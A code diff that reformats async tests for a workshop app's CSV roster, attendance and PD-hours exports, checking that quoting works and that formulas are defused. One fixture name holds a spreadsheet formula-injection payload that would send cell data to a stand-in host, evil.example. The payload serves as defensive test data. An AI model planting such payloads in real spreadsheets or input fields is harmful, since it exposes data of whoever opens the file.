@@ -19,8 +19,9 @@ def read_csv(response) -> list[list[str]]:
 
 async def _offering_with_people():
     staff, actor = await staff_member()
-    offering = await workshop(actor, capacity=3, sessions=[session(2026, 3, 10), session(2026, 3, 17, start_hour=13)],
-                              pd_hours="6")
+    offering = await workshop(
+        actor, capacity=3, sessions=[session(2026, 3, 10), session(2026, 3, 17, start_hour=13)], pd_hours="6"
+    )
     people = [
         await make_user("attendee", district="EGUSD", name='Ana "Annie" Lopez, M.Ed.', email="ana@example.org"),
         await make_user("attendee", name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', email="evil@example.org"),
@@ -42,14 +43,32 @@ async def test_the_roster_export_quotes_correctly_and_defuses_formulas(client):
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.headers["content-disposition"] == f'attachment; filename="offering-{offering["id"]}-roster.csv"'
     rows = read_csv(response)
-    assert rows[0] == ["Name", "Email", "District", "Status", "Waiting list position", "Payer", "PO number", "Registered", "Confirmed"]
+    assert rows[0] == [
+        "Name",
+        "Email",
+        "District",
+        "Status",
+        "Waiting list position",
+        "Payer",
+        "PO number",
+        "Registered",
+        "Confirmed",
+    ]
     by_email = {row[1]: row for row in rows[1:]}
     assert len(by_email) == 5
-    assert by_email["ana@example.org"][:4] == ['Ana "Annie" Lopez, M.Ed.', "ana@example.org", "Elk Grove Unified", "Confirmed"]
+    assert by_email["ana@example.org"][:4] == [
+        'Ana "Annie" Lopez, M.Ed.',
+        "ana@example.org",
+        "Elk Grove Unified",
+        "Confirmed",
+    ]
     assert by_email["evil@example.org"][0] == "'" + people[1]["name"]
     assert by_email["plus@example.org"][0] == "'+1 555 0100"
     assert by_email["at@example.org"][3:5] == ["Waiting list", "1"] and by_email["at@example.org"][0] == "'@SUM(A1:A9)"
-    assert by_email["minus@example.org"][3:5] == ["Waiting list", "2"] and by_email["minus@example.org"][0] == "'-Minus Person"
+    assert (
+        by_email["minus@example.org"][3:5] == ["Waiting list", "2"]
+        and by_email["minus@example.org"][0] == "'-Minus Person"
+    )
     assert by_email["ana@example.org"][8].endswith(("PST", "PDT"))  # local time, as staff read it
     assert b'"Ana ""Annie"" Lopez, M.Ed."' in response.content
     assert response.content.count(b"\r\n") == 6
@@ -67,7 +86,15 @@ async def test_the_attendance_export_has_one_column_per_session(client):
 
     rows = read_csv(await client.get(f"/staff/offerings/{offering['id']}/exports/attendance.csv"))
 
-    assert rows[0] == ["Name", "Email", "District", "Status", "2026-03-10 9:00 AM PDT", "2026-03-17 1:00 PM PDT", "Sessions present"]
+    assert rows[0] == [
+        "Name",
+        "Email",
+        "District",
+        "Status",
+        "2026-03-10 9:00 AM PDT",
+        "2026-03-17 1:00 PM PDT",
+        "Sessions present",
+    ]
     by_email = {row[1]: row for row in rows[1:]}
     assert set(by_email) == {"ana@example.org", "evil@example.org", "plus@example.org"}  # waiting people have no marks
     assert by_email["ana@example.org"][4:] == ["present", "present", "2"]
@@ -89,8 +116,17 @@ async def test_the_pd_hours_export_after_completion(client):
 
     assert response.headers["content-disposition"] == f'attachment; filename="offering-{offering["id"]}-pd-hours.csv"'
     rows = read_csv(response)
-    assert rows[0][:9] == ["Name", "Email", "District", "Sessions present", "Sessions", "Hours attended",
-                           "Attendance rule met", "PD hours awarded", "Completed"]
+    assert rows[0][:9] == [
+        "Name",
+        "Email",
+        "District",
+        "Sessions present",
+        "Sessions",
+        "Hours attended",
+        "Attendance rule met",
+        "PD hours awarded",
+        "Completed",
+    ]
     by_email = {row[1]: row for row in rows[1:]}
     assert set(by_email) == {"ana@example.org", "evil@example.org", "plus@example.org"}  # confirmed people only
     assert by_email["ana@example.org"][3:8] == ["2", "2", "6", "yes", "6"]
